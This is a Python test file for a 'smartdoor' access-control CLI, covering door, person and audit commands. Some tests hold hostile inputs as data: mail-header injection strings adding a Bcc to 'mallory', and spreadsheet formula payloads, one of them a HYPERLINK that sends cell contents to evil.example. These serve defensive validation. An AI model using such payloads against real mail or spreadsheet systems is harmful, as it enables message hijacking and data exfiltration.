"""The `smartdoor` command as a user runs it: its own embedded database, or the one a running
server already holds on the same DATA_DIR."""

from __future__ import annotations

import csv
import io
import json
import socket
import subprocess
import sys
import time
import urllib.request
from datetime import UTC, datetime
from pathlib import Path

import pytest

pytestmark = pytest.mark.subprocess

SMARTDOOR = [sys.executable, "-m", "smartdoor.cli"]


def run(env, *args, check=True):
    p = subprocess.run([*SMARTDOOR, *args], env=env, capture_output=True, text=True, timeout=120)
    if check:
        assert p.returncode == 0, p.stderr
    return p


def test_door_lifecycle_and_audit(env, running_db):
    out = run(
        env, "door", "add", "Front door", "--recipient", "a@example.com", "--recipient", "b@example.com", "--json"
    ).stdout
    door = json.loads(out)  # exactly one JSON object
    assert len(door["secret"]) == 64 and int(door["secret"], 16) >= 0 and door["id"]
    assert door["recipients"] == ["a@example.com", "b@example.com"]
    listed = json.loads(run(env, "door", "list", "--json").stdout)
    assert [d["id"] for d in listed] == [door["id"]] and "secret" not in str(listed)
    rotated = json.loads(run(env, "door", "rotate-secret", door["id"], "--json").stdout)
    assert rotated["secret"] != door["secret"] and len(rotated["secret"]) == 64
    assert "lockout cleared" in run(env, "door", "clear-lockout", door["id"]).stdout
    enrolled = json.loads(run(env, "door", "offline-enroll", door["id"], "--label", "Alice", "--json").stdout)
    assert enrolled["uri"].startswith("otpauth://totp/") and enrolled["label"] == "Alice"
    qr = run(env, "door", "offline-enroll", door["id"], "--label", "Bob").stdout
    assert "otpauth://totp/" in qr and ("█" in qr or "▀" in qr)  # the QR code, drawn in the terminal
    listed = json.loads(run(env, "door", "offline-list", door["id"], "--json").stdout)
    assert [c["label"] for c in listed] == ["Alice", "Bob"] and "secret" not in str(listed)
    run(env, "door", "offline-revoke", door["id"], enrolled["id"])
    table = run(env, "audit").stdout
    assert "lockout_cleared" in table and "offline_enrolled" in table and "offline_revoked" in table
    rows = list(csv.DictReader(io.StringIO(run(env, "audit", "--format", "csv", "--door", door["id"]).stdout)))
    assert rows[0]["event"] == "lockout_cleared" and rows[0]["door"] == door["id"]
    assert enrolled["uri"].split("secret=")[1].split("&")[0] not in table
    lines = run(env, "audit", "--format", "jsonl", "--outcome", "info").stdout.splitlines()
    assert json.loads(lines[0])["outcome"] == "info"
    assert run(env, "audit", "--since", "2999-01-01").stdout.count("\n") == 1  # header only
    run(env, "door", "remove", door["id"])
    assert json.loads(run(env, "door", "list", "--json").stdout) == []
    missing = run(env, "door", "remove", door["id"], check=False)
    assert missing.returncode == 1 and "no door" in missing.stderr
    bad = run(env, "door", "add", "X", "--recipient", "not-an-email", check=False)
    assert bad.returncode == 1 and "not an email" in bad.stderr


def test_people_commands(env, running_db):
    alice = json.loads(
        run(env, "person", "add", "Alice", "--email", "alice@example.com", "--role", "admin", "--json").stdout
    )
    assert alice["keypad"] == "100" and alice["role"] == "admin" and alice["active"] is True
    run(env, "person", "add", "Bob", "--email", "bob@example.com", "--keypad", "42")
    dup = run(env, "person", "add", "Eve", "--email", "bob@example.com", check=False)
    assert dup.returncode == 1 and dup.stderr.count("\n") == 1 and "e-mail" in dup.stderr
    run(env, "person", "disable", alice["id"])
    listed = {p["name"]: p for p in json.loads(run(env, "person", "list", "--json").stdout)}
    assert listed["Alice"]["active"] is False and listed["Bob"]["keypad"] == "42"
    run(env, "person", "remove", listed["Bob"]["id"])
    events = [json.loads(line) for line in run(env, "audit", "--format", "jsonl").stdout.splitlines()]
    assert [e["event"] for e in events] == ["person_added", "person_added", "person_disabled", "person_removed"]
    assert {e["actor"] for e in events} == {"cli"}


def test_refuses_unsafe_secret_key_in_one_line(env):
    env["SECRET_KEY"] = "changeme"
    p = run(env, "door", "list", check=False)
    assert p.returncode == 2
    assert p.stderr.count("\n") == 1 and "SECRET_KEY" in p.stderr and "Traceback" not in p.stderr


def test_cli_shares_the_database_of_a_running_server(env, tmp_path):
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    server = subprocess.Popen(
        [*SMARTDOOR, "serve", "--port", str(port)], env=env, stdout=subprocess.PIPE, stderr=subprocess.STDOUT
    )
    try:
        deadline = time.monotonic() + 60
        while True:
            try:
                health = json.load(urllib.request.urlopen(f"http://127.0.0.1:{port}/health", timeout=2))
                break
            except OSError:
                assert server.poll() is None and time.monotonic() < deadline, "server did not start"
                time.sleep(0.2)
        assert health["database"] == "connected"
        state = json.loads((Path(env["DATA_DIR"]) / "embedded-db.json").read_text())
        door = json.loads(run(env, "door", "add", "Shared", "--json").stdout)  # while the server holds the DB
        assert json.loads((Path(env["DATA_DIR"]) / "embedded-db.json").read_text()) == state
    finally:
        server.terminate()
        server.wait(timeout=30)
    # the server stopped its database; the CLI now starts its own on the same folder
    assert not (Path(env["DATA_DIR"]) / "embedded-db.json").exists()
    assert [d["id"] for d in json.loads(run(env, "door", "list", "--json").stdout)] == [door["id"]]


@pytest.mark.parametrize(
    "args, shown",
    [
        (["Front\r\nBcc: mallory@example.net", "--recipient", "a@example.com"], "door name"),
        (["Front", "--recipient", "a@example.com\r\nBcc: mallory@example.net"], "not an email address"),
        (["Front", "--recipient", "Alice <a@example.com>"], "not an email address"),
    ],
)
def test_door_add_refuses_what_cannot_go_into_a_mail_header(env, running_db, args, shown):
    p = run(env, "door", "add", *args, check=False)
    assert p.returncode != 0 and p.stdout == ""
    assert p.stderr.count("\n") == 1 and shown in p.stderr and "Traceback" not in p.stderr
    assert json.loads(run(env, "door", "list", "--json").stdout) == []


def test_refuses_recipients_that_break_a_mail_header_at_start(env):
    env["RECIPIENTS"] = "alice@example.com,bob@example.com\r\nBcc: mallory@example.net"
    p = run(env, "door", "list", check=False)
    assert p.returncode == 2
    assert p.stderr.count("\n") == 1 and "RECIPIENTS" in p.stderr and "Traceback" not in p.stderr


def test_audit_csv_cells_cannot_be_spreadsheet_formulas(env, running_db):
    """A device chooses its `firmware` string, and the state report puts it in the audit."""
    from pymongo import MongoClient

    from smartdoor.audit.service import entry

    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+1", "-1+1", "@SUM(A1)", "\tx", "\rx"]
    events = [
        entry(now=datetime(2026, 1, 1, 12, i, tzinfo=UTC), event="state_report", outcome="info", door="d1", firmware=f)
        for i, f in enumerate(hostile)
    ]
    events.append(entry(now=datetime(2026, 1, 1, 13, tzinfo=UTC), event="state_report", outcome="info", rssi=-60))
    with MongoClient(running_db.uri) as client:
        client[env["MONGO_DB"]].audit.insert_many(events)
    out = subprocess.run([*SMARTDOOR, "audit", "--format", "csv"], env=env, capture_output=True, timeout=120)
    assert out.returncode == 0, out.stderr
    rows = list(csv.DictReader(io.StringIO(out.stdout.decode(), newline="")))  # bytes: keep the \r as sent
    assert [r["firmware"] for r in rows[:-1]] == ["'" + f for f in hostile]
    assert rows[-1]["rssi"] == "-60" and rows[-1]["firmware"] == ""  # a number stays a number
    assert rows[0]["event"] == "state_report" and rows[0]["at"].startswith("2026-01-01T12:00")
